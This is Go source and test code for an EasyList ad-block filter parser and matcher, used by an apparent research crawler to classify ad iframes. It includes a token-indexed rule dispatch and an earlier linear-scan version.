	// the recursive matcher it replaced went exponential on inputs like
	// these and would hang this test.
	l := mustParse(t, "a*a*a*a*a*a*a*a*a*a*b|")
	long := "http://x.com/" + strings.Repeat("a", 2000)
	if l.MatchURL(long) {
		t.Error("should not match without the trailing b")
	}
	if !l.MatchURL(long + "b") {
		t.Error("should match with the trailing b")
	}
}

func TestResourceTypeString(t *testing.T) {
	for rt, want := range map[ResourceType]string{
		TypeOther: "other", TypeDocument: "document", TypeSubdocument: "subdocument",
		TypeScript: "script", TypeImage: "image",
	} {
		if rt.String() != want {
			t.Errorf("%d.String() = %q", rt, rt.String())
		}
	}
}
