package easylist

import (
	"strings"
	"time"

	"madave/internal/telemetry"
)

// This file implements the token-indexed rule dispatch (see the package
// comment's "Matching architecture"). Each rule is bucketed under a single
// literal token guaranteed to appear as a complete alphanumeric run in any
// URL the rule matches; Match tokenizes the request URL once and evaluates
// only the rules in the probed buckets plus a small tokenless fallback, and
// returns the earliest-added match so its verdicts are byte-identical to
// the linear first-match scan (MatchLinear).

// minIndexToken is the shortest literal a non-host-anchored rule may be
// keyed under. Shorter generic fragments ("ad", "js") are too common to
// dispatch on and would bloat hot buckets; host labels are exempt because a
// complete DNS label of any length is already selective.
const minIndexToken = 4

// ruleIndex buckets one class of rules (blocking or exception) by token.
type ruleIndex struct {
	buckets  map[string][]*Rule
	fallback []*Rule // rules with no safe token: scanned on every request
}

// add buckets r under the least-populated of its candidate tokens (uBlock
// Origin's least-frequent-token heuristic, greedy over insertion order), so
// rule families sharing a common fragment — hundreds of ||adserv.*^ hosts,
// say — spread across their distinguishing tokens instead of piling into
// one hot bucket. Ties prefer the longer, more selective token.
func (ix *ruleIndex) add(r *Rule) {
	best, bestN := "", -1
	for _, tok := range candidateTokens(r) {
		n := len(ix.buckets[tok])
		if bestN < 0 || n < bestN || (n == bestN && len(tok) > len(best)) {
			best, bestN = tok, n
		}
	}
	if bestN < 0 {
		ix.fallback = append(ix.fallback, r)
		return
	}
	if ix.buckets == nil {
		ix.buckets = make(map[string][]*Rule)
	}
	ix.buckets[best] = append(ix.buckets[best], r)
}

// match returns the earliest-added rule matching the request, or nil —
// exactly the rule a first-match linear scan over the class would return.
// Buckets hold rules in insertion order, so each scan can stop at its
// first hit or as soon as ordinals pass the best match so far.
func (ix *ruleIndex) match(c *RequestCtx) *Rule {
	var best *Rule
	scan := func(rules []*Rule) {
		for _, r := range rules {
			if best != nil && r.ord >= best.ord {
				return
			}
			if r.matches(c) {
				best = r
				return
			}
		}
	}
	scan(ix.fallback)
	for _, tok := range c.tokens {
		scan(ix.buckets[tok])
	}
	for _, sp := range c.foldSpans {
		scan(ix.buckets[string(c.foldBuf[sp[0]:sp[1]])])
	}
	return best
}

// Match classifies a request. It returns whether the request is blocked
// (i.e. the URL is ad-related) and the rule that decided: a blocking rule
// when blocked, an exception rule when an exception rescued the request,
// or nil when nothing matched.
func (l *List) Match(req Request) (bool, *Rule) {
	var c RequestCtx
	return l.MatchCtx(&c, req)
}

// MatchCtx is Match with a caller-supplied RequestCtx, letting hot loops
// reuse the context's token scratch buffer across requests. The context is
// reset for each call; it must not be shared between goroutines.
func (l *List) MatchCtx(c *RequestCtx, req Request) (bool, *Rule) {
	if l.Tel == nil {
		return l.matchCtx(c, req)
	}
	start := time.Now()
	blocked, rule := l.matchCtx(c, req)
	l.observe(time.Since(start), blocked)
	return blocked, rule
}

// matchCtx is the uninstrumented match path.
func (l *List) matchCtx(c *RequestCtx, req Request) (bool, *Rule) {
	c.reset(req)
	c.tokenize(req.URL)
	hit := l.blockIdx.match(c)
	if hit == nil {
		return false, nil
	}
	if exc := l.excIdx.match(c); exc != nil {
		return false, exc
	}
	return true, hit
}

// observe feeds one match outcome into the telemetry registry. Instrument
// handles are fetched once, so the steady-state cost is two atomic adds.
func (l *List) observe(d time.Duration, blocked bool) {
	l.telOnce.Do(func() {
		l.matchHist = l.Tel.StageHist(telemetry.StageEasyList)
		l.blockedC = l.Tel.Counter("easylist_matches_total", telemetry.L("decision", "blocked"))
		l.passedC = l.Tel.Counter("easylist_matches_total", telemetry.L("decision", "passed"))
	})
	l.matchHist.ObserveDuration(d)
	if blocked {
		l.blockedC.Inc()
	} else {
		l.passedC.Inc()
	}
}

// MatchLinear classifies req by scanning every rule in list order — the
// pre-index reference implementation, retained so tests and benchmarks can
// prove the indexed path returns identical (blocked, rule) decisions.
func (l *List) MatchLinear(req Request) (bool, *Rule) {
	var c RequestCtx
	c.reset(req)
	var hit *Rule
	for _, r := range l.blocking {
		if r.matches(&c) {
			hit = r
			break
		}
	}
	if hit == nil {
		return false, nil
	}
	for _, r := range l.exceptions {
		if r.matches(&c) {
			return false, r
		}
	}
	return true, hit
}

// MatchURL is a convenience for classifying a bare URL with no document
// context as any resource type.
func (l *List) MatchURL(rawURL string) bool {
	ok, _ := l.Match(Request{URL: rawURL, Type: TypeOther, DocHost: ""})
	return ok
}

// isTokenByte reports whether c belongs to an index token: tokens are
// maximal ASCII alphanumeric runs. Everything else — including '.', '-',
// '_', '%', which the ABP separator class exempts — is a token boundary.
func isTokenByte(c byte) bool {
	return c >= '0' && c <= '9' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z'
}

// candidateTokens returns the tokens r may be bucketed under: every safe
// literal token of at least minIndexToken bytes, plus — for host-anchored
// rules — the complete first host label whatever its length (a run at
// offset 0 not cut short by a '-' or '_' inside the label). An empty
// result sends the rule to the always-scanned fallback.
func candidateTokens(r *Rule) []string {
	pat := r.pattern
	var out []string
	for i := 0; i < len(pat); {
		if !isTokenByte(pat[i]) {
			i++
			continue
		}
		j := i + 1
		for j < len(pat) && isTokenByte(pat[j]) {
			j++
		}
		if r.tokenSafe(i, j) {
			firstLabel := i == 0 && r.anchorHost && (j == len(pat) || (pat[j] != '-' && pat[j] != '_'))
			if firstLabel || j-i >= minIndexToken {
				out = append(out, strings.ToLower(pat[i:j]))
			}
		}
		i = j
	}
	return out
}

// tokenSafe reports whether pattern[i:j] is guaranteed to appear as a
// complete alphanumeric run in every URL the rule matches. Each edge of
// the run must sit on something that forces a token boundary in the URL: a
// start anchor (| pins the URL start, || a host-label boundary), an end
// anchor, or an adjacent literal non-token byte. An adjacent '*' disquali-
// fies — it can glue arbitrary alphanumerics onto the token — while an
// adjacent '^' qualifies: it only ever matches separators or the URL end.
func (r *Rule) tokenSafe(i, j int) bool {
	pat := r.pattern
	leftOK := (i == 0 && (r.anchorStart || r.anchorHost)) || (i > 0 && pat[i-1] != '*')
	rightOK := (j == len(pat) && r.anchorEnd) || (j < len(pat) && pat[j] != '*')
	return leftOK && rightOK
}

// tokenize records u's lowercase alphanumeric runs in the context. Runs
// that are already lowercase alias u's backing array in c.tokens; runs with
// uppercase are case-folded into the c.foldBuf scratch and recorded as
// spans, so tokenizing never allocates once the scratch has warmed up.
func (c *RequestCtx) tokenize(u string) {
	for i := 0; i < len(u); {
		if !isTokenByte(u[i]) {
			i++
			continue
		}
		j, upper := i, false
		for j < len(u) && isTokenByte(u[j]) {
			if u[j] >= 'A' && u[j] <= 'Z' {
				upper = true
			}
			j++
		}
		if !upper {
			c.tokens = append(c.tokens, u[i:j])
		} else {
			lo := len(c.foldBuf)
			for k := i; k < j; k++ {
				ch := u[k]
				if ch >= 'A' && ch <= 'Z' {
					ch += 'a' - 'A'
				}
				c.foldBuf = append(c.foldBuf, ch)
			}
			c.foldSpans = append(c.foldSpans, [2]int32{int32(lo), int32(len(c.foldBuf))})
		}
		i = j
	}
}
