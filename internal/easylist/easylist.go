// Package easylist implements the Adblock Plus filter-list syntax used by
// EasyList. The paper's crawler used EasyList to decide which iframes on a
// crawled page are advertisements; this package plays the same role for the
// emulated crawler, and the Section-5 "last line of defense" evaluation uses
// it as the ad blocker.
//
// Supported syntax (the subset EasyList itself predominantly uses):
//
//	! comment lines and [Adblock Plus ...] headers
//	||host^path     domain-anchored rules
//	|http://...     start-anchored rules, trailing | end-anchor
//	plain*wild^card patterns with * wildcards and ^ separators
//	@@rule          exception rules
//	$options        script, image, subdocument, document, third-party with ~
//	                negation, and domain=a.com|~b.com restrictions
//
// Element-hiding rules (##) are recognized and skipped: they hide elements
// cosmetically and never classify URLs.
//
// # Matching architecture
//
// Match is the crawl's hottest call — the crawler consults it once per
// iframe, the emulated browser once per subresource, and the §5 defense
// evaluation replays it over the whole corpus — so the engine follows the
// token-index design production blockers use (uBlock Origin's
// least-frequent-token dispatch, Brave's adblock-rust): at parse time each
// rule is bucketed under one literal token of its pattern that is
// guaranteed to appear as a complete alphanumeric run in every URL the
// rule can match — candidates are its safe tokens of at least four bytes,
// host-anchored || rules additionally their first host label, and of those
// the least-populated bucket wins; tokenless rules go to a small
// always-scanned fallback slice. Match tokenizes the request URL once and
// probes only the candidate buckets, turning the O(rules) linear scan into
// O(url-tokens) map lookups; see index.go. The pattern matcher itself is an
// iterative single-'*'-backtrack loop (match.go), so no pattern can go
// exponential, and per-request derived state (the request host needed by
// $third-party, the URL token list) lives in a reusable RequestCtx instead
// of being recomputed per candidate rule. MatchLinear retains the
// pre-index full scan as the reference implementation; differential tests
// hold the two paths identical.
package easylist

import (
	"bufio"
	"fmt"
	"io"
	"strings"
	"sync"

	"madave/internal/telemetry"
)

// ResourceType describes what kind of resource a URL request loads,
// mirroring Adblock Plus request types.
type ResourceType int

// Resource types used by the crawler.
const (
	TypeOther ResourceType = iota
	TypeDocument
	TypeSubdocument // iframes — the type the ad-extraction step cares about
	TypeScript
	TypeImage
)

// String returns the ABP option name of the type.
func (rt ResourceType) String() string {
	switch rt {
	case TypeDocument:
		return "document"
	case TypeSubdocument:
		return "subdocument"
	case TypeScript:
		return "script"
	case TypeImage:
		return "image"
	default:
		return "other"
	}
}

// Request is a URL request to classify.
type Request struct {
	URL     string
	Type    ResourceType
	DocHost string // host of the document making the request
}

// Rule is one parsed filter rule.
type Rule struct {
	// Raw is the original filter text.
	Raw string
	// Exception is true for @@ rules.
	Exception bool

	pattern     string // pattern with anchors stripped
	anchorHost  bool   // || prefix
	anchorStart bool   // | prefix
	anchorEnd   bool   // | suffix

	// option constraints; nil maps mean unconstrained.
	typeInclude map[ResourceType]bool
	typeExclude map[ResourceType]bool
	thirdParty  *bool // nil = either; true = only third-party; false = only first-party
	domainsInc  []string
	domainsExc  []string

	// ord is the rule's position within its class (blocking or exception)
	// in the owning List; the index uses it to return the same rule a
	// first-match linear scan would. Set by List.Add.
	ord int

	// prune describes how the unanchored scan skips ahead between match
	// attempts; precomputed by ParseRule.
	pruneKind pruneKind
	pruneByte byte // lowercase first literal byte, valid when pruneKind == pruneLit
}

// List is a parsed filter list.
type List struct {
	blocking   []*Rule
	exceptions []*Rule
	blockIdx   ruleIndex
	excIdx     ruleIndex
	skipped    int // unsupported lines (element hiding etc.)

	// Tel, when non-nil, receives per-match latency samples (the
	// easylist.match stage histogram) and decision counters
	// (easylist_matches_total{decision=blocked|passed}). Matching results
	// never depend on it. Set it before concurrent matching begins.
	Tel *telemetry.Set

	telOnce   sync.Once
	matchHist *telemetry.Histogram
	blockedC  *telemetry.Counter
	passedC   *telemetry.Counter
}

// ParseError reports a malformed filter line.
type ParseError struct {
	Line int
	Text string
	Msg  string
}

func (e *ParseError) Error() string {
	return fmt.Sprintf("easylist: line %d (%q): %s", e.Line, e.Text, e.Msg)
}

// Parse reads a filter list. Unsupported-but-valid lines (element hiding,
// empty) are skipped; syntactically broken option lists are errors.
func Parse(r io.Reader) (*List, error) {
	l := &List{}
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 64*1024), 1024*1024)
	lineNo := 0
	for sc.Scan() {
		lineNo++
		line := strings.TrimSpace(sc.Text())
		if line == "" || strings.HasPrefix(line, "!") || strings.HasPrefix(line, "[") {
			continue
		}
		// Element hiding (## or #@#) and extended selectors are cosmetic.
		if strings.Contains(line, "##") || strings.Contains(line, "#@#") || strings.Contains(line, "#?#") {
			l.skipped++
			continue
		}
		rule, err := ParseRule(line)
		if err != nil {
			return nil, &ParseError{Line: lineNo, Text: line, Msg: err.Error()}
		}
		l.Add(rule)
	}
	if err := sc.Err(); err != nil {
		return nil, err
	}
	return l, nil
}

// ParseString parses a list from a string.
func ParseString(s string) (*List, error) {
	return Parse(strings.NewReader(s))
}

// Add appends a rule to the list and indexes it. A Rule must belong to at
// most one List. Add is not safe to call concurrently with Match.
func (l *List) Add(r *Rule) {
	if r.Exception {
		r.ord = len(l.exceptions)
		l.exceptions = append(l.exceptions, r)
		l.excIdx.add(r)
	} else {
		r.ord = len(l.blocking)
		l.blocking = append(l.blocking, r)
		l.blockIdx.add(r)
	}
}

// Len returns the number of active (non-skipped) rules.
func (l *List) Len() int { return len(l.blocking) + len(l.exceptions) }

// Skipped returns the number of unsupported lines ignored during parsing.
func (l *List) Skipped() int { return l.skipped }

// ParseRule parses a single filter line (which must not be a comment or
// element-hiding rule).
func ParseRule(line string) (*Rule, error) {
	r := &Rule{Raw: line}
	text := line
	if strings.HasPrefix(text, "@@") {
		r.Exception = true
		text = text[2:]
	}

	// Split off options at the last '$' that introduces a plausible option
	// list. EasyList never uses '$' inside URL patterns except for options.
	if i := strings.LastIndexByte(text, '$'); i >= 0 && i < len(text)-1 && isOptionList(text[i+1:]) {
		if err := r.parseOptions(text[i+1:]); err != nil {
			return nil, err
		}
		text = text[:i]
	}

	if strings.HasPrefix(text, "||") {
		r.anchorHost = true
		text = text[2:]
	} else if strings.HasPrefix(text, "|") {
		r.anchorStart = true
		text = text[1:]
	}
	if strings.HasSuffix(text, "|") {
		r.anchorEnd = true
		text = text[:len(text)-1]
	}
	if text == "" && !r.anchorHost && !r.anchorStart {
		return nil, fmt.Errorf("empty pattern")
	}
	r.pattern = text
	r.pruneKind, r.pruneByte = prunePlan(text)
	return r, nil
}

// isOptionList reports whether s looks like a comma-separated ABP option
// list rather than part of a URL.
func isOptionList(s string) bool {
	for _, opt := range strings.Split(s, ",") {
		opt = strings.TrimPrefix(strings.TrimSpace(opt), "~")
		if opt == "" {
			return false
		}
		name := opt
		if i := strings.IndexByte(opt, '='); i >= 0 {
			name = opt[:i]
		}
		switch name {
		case "script", "image", "subdocument", "document", "third-party",
			"object", "stylesheet", "xmlhttprequest", "popup", "domain",
			"other", "match-case", "collapse":
		default:
			return false
		}
	}
	return true
}

func (r *Rule) parseOptions(s string) error {
	for _, opt := range strings.Split(s, ",") {
		opt = strings.TrimSpace(opt)
		neg := strings.HasPrefix(opt, "~")
		if neg {
			opt = opt[1:]
		}
		switch {
		case opt == "third-party":
			v := !neg
			r.thirdParty = &v
		case strings.HasPrefix(opt, "domain="):
			for _, d := range strings.Split(opt[len("domain="):], "|") {
				d = strings.ToLower(strings.TrimSpace(d))
				if d == "" {
					continue
				}
				if strings.HasPrefix(d, "~") {
					r.domainsExc = append(r.domainsExc, d[1:])
				} else {
					r.domainsInc = append(r.domainsInc, d)
				}
			}
		case opt == "script" || opt == "image" || opt == "subdocument" || opt == "document" || opt == "other":
			rt := typeFromName(opt)
			if neg {
				if r.typeExclude == nil {
					r.typeExclude = map[ResourceType]bool{}
				}
				r.typeExclude[rt] = true
			} else {
				if r.typeInclude == nil {
					r.typeInclude = map[ResourceType]bool{}
				}
				r.typeInclude[rt] = true
			}
		case opt == "object" || opt == "stylesheet" || opt == "xmlhttprequest" ||
			opt == "popup" || opt == "match-case" || opt == "collapse":
			// Recognized but not modeled; such rules simply don't constrain.
		default:
			return fmt.Errorf("unknown option %q", opt)
		}
	}
	return nil
}

func typeFromName(name string) ResourceType {
	switch name {
	case "document":
		return TypeDocument
	case "subdocument":
		return TypeSubdocument
	case "script":
		return TypeScript
	case "image":
		return TypeImage
	default:
		return TypeOther
	}
}
