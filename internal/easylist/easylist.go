// Package easylist implements the Adblock Plus filter-list syntax used by
// EasyList. The paper's crawler used EasyList to decide which iframes on a
// crawled page are advertisements; this package plays the same role for the
// emulated crawler, and the Section-5 "last line of defense" evaluation uses
// it as the ad blocker.
//
// Supported syntax (the subset EasyList itself predominantly uses):
//
//	! comment lines and [Adblock Plus ...] headers
//	||host^path     domain-anchored rules
//	|http://...     start-anchored rules, trailing | end-anchor
//	plain*wild^card patterns with * wildcards and ^ separators
//	@@rule          exception rules
//	$options        script, image, subdocument, document, third-party with ~
//	                negation, and domain=a.com|~b.com restrictions
//
// Element-hiding rules (##) are recognized and skipped: they hide elements
// cosmetically and never classify URLs.
package easylist

import (
	"bufio"
	"fmt"
	"io"
	"strings"

	"madave/internal/urlx"
)

// ResourceType describes what kind of resource a URL request loads,
// mirroring Adblock Plus request types.
type ResourceType int

// Resource types used by the crawler.
const (
	TypeOther ResourceType = iota
	TypeDocument
	TypeSubdocument // iframes — the type the ad-extraction step cares about
	TypeScript
	TypeImage
)

// String returns the ABP option name of the type.
func (rt ResourceType) String() string {
	switch rt {
	case TypeDocument:
		return "document"
	case TypeSubdocument:
		return "subdocument"
	case TypeScript:
		return "script"
	case TypeImage:
		return "image"
	default:
		return "other"
	}
}

// Request is a URL request to classify.
type Request struct {
	URL     string
	Type    ResourceType
	DocHost string // host of the document making the request
}

// Rule is one parsed filter rule.
type Rule struct {
	// Raw is the original filter text.
	Raw string
	// Exception is true for @@ rules.
	Exception bool

	pattern     string // pattern with anchors stripped
	anchorHost  bool   // || prefix
	anchorStart bool   // | prefix
	anchorEnd   bool   // | suffix

	// option constraints; nil maps mean unconstrained.
	typeInclude map[ResourceType]bool
	typeExclude map[ResourceType]bool
	thirdParty  *bool // nil = either; true = only third-party; false = only first-party
	domainsInc  []string
	domainsExc  []string
}

// List is a parsed filter list.
type List struct {
	blocking   []*Rule
	exceptions []*Rule
	skipped    int // unsupported lines (element hiding etc.)
}

// ParseError reports a malformed filter line.
type ParseError struct {
	Line int
	Text string
	Msg  string
}

func (e *ParseError) Error() string {
	return fmt.Sprintf("easylist: line %d (%q): %s", e.Line, e.Text, e.Msg)
}

// Parse reads a filter list. Unsupported-but-valid lines (element hiding,
// empty) are skipped; syntactically broken option lists are errors.
func Parse(r io.Reader) (*List, error) {
	l := &List{}
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 64*1024), 1024*1024)
	lineNo := 0
	for sc.Scan() {
		lineNo++
		line := strings.TrimSpace(sc.Text())
		if line == "" || strings.HasPrefix(line, "!") || strings.HasPrefix(line, "[") {
			continue
		}
		// Element hiding (## or #@#) and extended selectors are cosmetic.
		if strings.Contains(line, "##") || strings.Contains(line, "#@#") || strings.Contains(line, "#?#") {
			l.skipped++
			continue
		}
		rule, err := ParseRule(line)
		if err != nil {
			return nil, &ParseError{Line: lineNo, Text: line, Msg: err.Error()}
		}
		l.Add(rule)
	}
	if err := sc.Err(); err != nil {
		return nil, err
	}
	return l, nil
}

// ParseString parses a list from a string.
func ParseString(s string) (*List, error) {
	return Parse(strings.NewReader(s))
}

// Add appends a rule to the list.
func (l *List) Add(r *Rule) {
	if r.Exception {
		l.exceptions = append(l.exceptions, r)
	} else {
		l.blocking = append(l.blocking, r)
	}
}

// Len returns the number of active (non-skipped) rules.
func (l *List) Len() int { return len(l.blocking) + len(l.exceptions) }

// Skipped returns the number of unsupported lines ignored during parsing.
func (l *List) Skipped() int { return l.skipped }

// Match classifies a request. It returns whether the request is blocked
// (i.e. the URL is ad-related) and the rule that decided: a blocking rule
// when blocked, an exception rule when an exception rescued the request,
// or nil when nothing matched.
func (l *List) Match(req Request) (bool, *Rule) {
	var hit *Rule
	for _, r := range l.blocking {
		if r.Matches(req) {
			hit = r
			break
		}
	}
	if hit == nil {
		return false, nil
	}
	for _, r := range l.exceptions {
		if r.Matches(req) {
			return false, r
		}
	}
	return true, hit
}

// MatchURL is a convenience for classifying a bare URL with no document
// context as any resource type.
func (l *List) MatchURL(rawURL string) bool {
	ok, _ := l.Match(Request{URL: rawURL, Type: TypeOther, DocHost: ""})
	return ok
}

// ParseRule parses a single filter line (which must not be a comment or
// element-hiding rule).
func ParseRule(line string) (*Rule, error) {
	r := &Rule{Raw: line}
	text := line
	if strings.HasPrefix(text, "@@") {
		r.Exception = true
		text = text[2:]
	}

	// Split off options at the last '$' that introduces a plausible option
	// list. EasyList never uses '$' inside URL patterns except for options.
	if i := strings.LastIndexByte(text, '$'); i >= 0 && i < len(text)-1 && isOptionList(text[i+1:]) {
		if err := r.parseOptions(text[i+1:]); err != nil {
			return nil, err
		}
		text = text[:i]
	}

	if strings.HasPrefix(text, "||") {
		r.anchorHost = true
		text = text[2:]
	} else if strings.HasPrefix(text, "|") {
		r.anchorStart = true
		text = text[1:]
	}
	if strings.HasSuffix(text, "|") {
		r.anchorEnd = true
		text = text[:len(text)-1]
	}
	if text == "" && !r.anchorHost && !r.anchorStart {
		return nil, fmt.Errorf("empty pattern")
	}
	r.pattern = text
	return r, nil
}

// isOptionList reports whether s looks like a comma-separated ABP option
// list rather than part of a URL.
func isOptionList(s string) bool {
	for _, opt := range strings.Split(s, ",") {
		opt = strings.TrimPrefix(strings.TrimSpace(opt), "~")
		if opt == "" {
			return false
		}
		name := opt
		if i := strings.IndexByte(opt, '='); i >= 0 {
			name = opt[:i]
		}
		switch name {
		case "script", "image", "subdocument", "document", "third-party",
			"object", "stylesheet", "xmlhttprequest", "popup", "domain",
			"other", "match-case", "collapse":
		default:
			return false
		}
	}
	return true
}

func (r *Rule) parseOptions(s string) error {
	for _, opt := range strings.Split(s, ",") {
		opt = strings.TrimSpace(opt)
		neg := strings.HasPrefix(opt, "~")
		if neg {
			opt = opt[1:]
		}
		switch {
		case opt == "third-party":
			v := !neg
			r.thirdParty = &v
		case strings.HasPrefix(opt, "domain="):
			for _, d := range strings.Split(opt[len("domain="):], "|") {
				d = strings.ToLower(strings.TrimSpace(d))
				if d == "" {
					continue
				}
				if strings.HasPrefix(d, "~") {
					r.domainsExc = append(r.domainsExc, d[1:])
				} else {
					r.domainsInc = append(r.domainsInc, d)
				}
			}
		case opt == "script" || opt == "image" || opt == "subdocument" || opt == "document" || opt == "other":
			rt := typeFromName(opt)
			if neg {
				if r.typeExclude == nil {
					r.typeExclude = map[ResourceType]bool{}
				}
				r.typeExclude[rt] = true
			} else {
				if r.typeInclude == nil {
					r.typeInclude = map[ResourceType]bool{}
				}
				r.typeInclude[rt] = true
			}
		case opt == "object" || opt == "stylesheet" || opt == "xmlhttprequest" ||
			opt == "popup" || opt == "match-case" || opt == "collapse":
			// Recognized but not modeled; such rules simply don't constrain.
		default:
			return fmt.Errorf("unknown option %q", opt)
		}
	}
	return nil
}

func typeFromName(name string) ResourceType {
	switch name {
	case "document":
		return TypeDocument
	case "subdocument":
		return TypeSubdocument
	case "script":
		return TypeScript
	case "image":
		return TypeImage
	default:
		return TypeOther
	}
}

// Matches reports whether the rule matches the request, considering pattern,
// anchors, and options.
func (r *Rule) Matches(req Request) bool {
	if !r.optionsAllow(req) {
		return false
	}
	u := req.URL
	switch {
	case r.anchorHost:
		return r.matchHostAnchor(u)
	case r.anchorStart:
		return r.matchAt(u, 0, true)
	default:
		// Unanchored: try every start offset.
		for i := 0; i <= len(u); i++ {
			if r.matchAt(u, i, false) {
				return true
			}
			// Cheap prune: jump to next occurrence of the first literal byte.
			if first, ok := r.firstLiteralByte(); ok {
				j := strings.IndexByte(u[i:], first)
				if j < 0 {
					return false
				}
				if j > 0 {
					i += j - 1
				}
			}
		}
		return false
	}
}

// firstLiteralByte returns the first concrete byte of the pattern, if any.
func (r *Rule) firstLiteralByte() (byte, bool) {
	for i := 0; i < len(r.pattern); i++ {
		c := r.pattern[i]
		if c != '*' && c != '^' {
			return c, true
		}
		if c == '^' {
			return 0, false // separator can match several bytes
		}
	}
	return 0, false
}

// matchHostAnchor implements the || anchor: the pattern must match starting
// at the URL's host, or at any subdomain-label boundary within the host.
func (r *Rule) matchHostAnchor(u string) bool {
	hostStart := strings.Index(u, "://")
	if hostStart < 0 {
		return false
	}
	hostStart += 3
	hostEnd := hostStart
	for hostEnd < len(u) && u[hostEnd] != '/' && u[hostEnd] != '?' && u[hostEnd] != '#' {
		hostEnd++
	}
	// Candidate positions: start of host and each position after a dot.
	for i := hostStart; i < hostEnd; i++ {
		if i == hostStart || u[i-1] == '.' {
			if r.matchAt(u, i, true) {
				return true
			}
		}
	}
	return false
}

// matchAt matches the rule pattern against u starting exactly at offset.
// anchoredStart pins the first segment to the offset.
func (r *Rule) matchAt(u string, offset int, anchoredStart bool) bool {
	return matchPattern(r.pattern, u, offset, anchoredStart, r.anchorEnd)
}

// matchPattern is a backtracking matcher over the ABP pattern alphabet:
// literal bytes, '*' (any run, including empty), and '^' (exactly one
// separator byte, or end-of-input).
func matchPattern(pat, s string, start int, anchoredStart, anchorEnd bool) bool {
	var match func(pi, si int) bool
	match = func(pi, si int) bool {
		for pi < len(pat) {
			switch pat[pi] {
			case '*':
				// Collapse consecutive stars.
				for pi < len(pat) && pat[pi] == '*' {
					pi++
				}
				if pi == len(pat) {
					if anchorEnd {
						return !anchorEnd || si <= len(s) // '*' absorbs to end
					}
					return true
				}
				for k := si; k <= len(s); k++ {
					if match(pi, k) {
						return true
					}
				}
				return false
			case '^':
				if si == len(s) {
					// Separator at end of pattern may match end of URL.
					return pi == len(pat)-1
				}
				if !isSeparator(s[si]) {
					return false
				}
				pi++
				si++
			default:
				if si >= len(s) || !eqFold(s[si], pat[pi]) {
					return false
				}
				pi++
				si++
			}
		}
		if anchorEnd {
			return si == len(s)
		}
		return true
	}
	if anchoredStart {
		return match(0, start)
	}
	return match(0, start)
}

// isSeparator implements the ABP separator class: anything that is not a
// letter, digit, or one of "_-.%".
func isSeparator(c byte) bool {
	switch {
	case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c >= '0' && c <= '9':
		return false
	case c == '_' || c == '-' || c == '.' || c == '%':
		return false
	}
	return true
}

// eqFold compares two bytes ASCII case-insensitively: ABP matching is
// case-insensitive by default.
func eqFold(a, b byte) bool {
	if 'A' <= a && a <= 'Z' {
		a += 'a' - 'A'
	}
	if 'A' <= b && b <= 'Z' {
		b += 'a' - 'A'
	}
	return a == b
}

// optionsAllow checks the rule's option constraints against the request.
func (r *Rule) optionsAllow(req Request) bool {
	if r.typeInclude != nil && !r.typeInclude[req.Type] {
		return false
	}
	if r.typeExclude != nil && r.typeExclude[req.Type] {
		return false
	}
	if r.thirdParty != nil {
		reqHost := urlx.Host(req.URL)
		third := !urlx.SameRegisteredDomain(reqHost, req.DocHost)
		if req.DocHost == "" {
			third = true
		}
		if *r.thirdParty != third {
			return false
		}
	}
	if len(r.domainsInc) > 0 {
		ok := false
		for _, d := range r.domainsInc {
			if urlx.IsSubdomainOf(req.DocHost, d) {
				ok = true
				break
			}
		}
		if !ok {
			return false
		}
	}
	for _, d := range r.domainsExc {
		if urlx.IsSubdomainOf(req.DocHost, d) {
			return false
		}
	}
	return true
}
