package easylist

import (
	"fmt"
	"math/rand"
	"sort"
	"strings"
	"testing"
	"testing/quick"
)

func TestCandidateTokens(t *testing.T) {
	cases := []struct {
		rule string
		want []string // nil means fallback
	}{
		{"||ads.example.com^", []string{"ads", "example"}},                    // label + long token; "com" too short
		{"||g.doubleclick.example^", []string{"g", "doubleclick", "example"}}, // short labels still dispatch
		{"@@||cdn.widgetworks.com^", []string{"cdn", "widgetworks"}},          // exceptions index the same way
		{"||track*.example.net^", []string{"example"}},                        // leading run unsafe ('*' right edge)
		{"||ad-serv.example.com^", []string{"serv", "example"}},               // "ad" is a label fragment and short
		{"/banners/*", []string{"banners"}},                                   // bounded by literals on both sides
		{"|http://banner.", []string{"http", "banner"}},                       // start anchor makes "http" safe
		{"/AdBanner.", []string{"adbanner"}},                                  // tokens are case-folded
		{"/banner/*/img^", []string{"banner"}},                                // "img" safe but short
		{"*/creative01/*", []string{"creative01"}},                            // leading '*' doesn't block later tokens
		{"/ad.js", nil},   // all tokens under 4 bytes
		{"swf|", nil},     // unanchored left edge: could glue into a run
		{"foo*bar", nil},  // both edges unsafe
		{"||adserv", nil}, // open right edge: host may continue the run
		{"^ads^", nil},    // safe but only 3 bytes, not host-anchored
	}
	for _, c := range cases {
		r, err := ParseRule(c.rule)
		if err != nil {
			t.Fatalf("ParseRule(%q): %v", c.rule, err)
		}
		got := candidateTokens(r)
		if fmt.Sprint(got) != fmt.Sprint(c.want) {
			t.Errorf("candidateTokens(%q) = %v, want %v", c.rule, got, c.want)
		}
	}
}

func TestIndexSpreadsSharedTokens(t *testing.T) {
	// Host rules sharing a first label must spread across their
	// distinguishing tokens rather than pile into one hot bucket.
	l := mustParse(t, `
||adserv.network001.com^
||adserv.network002.com^
||adserv.network003.com^
`)
	for tok, rules := range l.blockIdx.buckets {
		if len(rules) != 1 {
			t.Fatalf("bucket %q holds %d rules, want 1 each", tok, len(rules))
		}
	}
	if len(l.blockIdx.buckets) != 3 {
		t.Fatalf("buckets = %d, want 3", len(l.blockIdx.buckets))
	}
	// A rule with no usable token lands in the fallback slice.
	l2 := mustParse(t, "/ad.js")
	if len(l2.blockIdx.fallback) != 1 || len(l2.blockIdx.buckets) != 0 {
		t.Fatalf("fallback = %d, buckets = %d", len(l2.blockIdx.fallback), len(l2.blockIdx.buckets))
	}
}

func TestTokenizeURL(t *testing.T) {
	var c RequestCtx
	c.tokenize("http://Ads.Example.com:8080/a/BannerX?q=1%20x")
	// Lowercase runs land in tokens (aliasing the URL); runs with uppercase
	// land in the fold scratch as spans. Together they must cover every run.
	got := append([]string(nil), c.tokens...)
	for _, sp := range c.foldSpans {
		got = append(got, string(c.foldBuf[sp[0]:sp[1]]))
	}
	sort.Strings(got)
	want := []string{"1", "20x", "8080", "a", "ads", "bannerx", "com", "example", "http", "q"}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Fatalf("tokens = %v, want %v", got, want)
	}
}

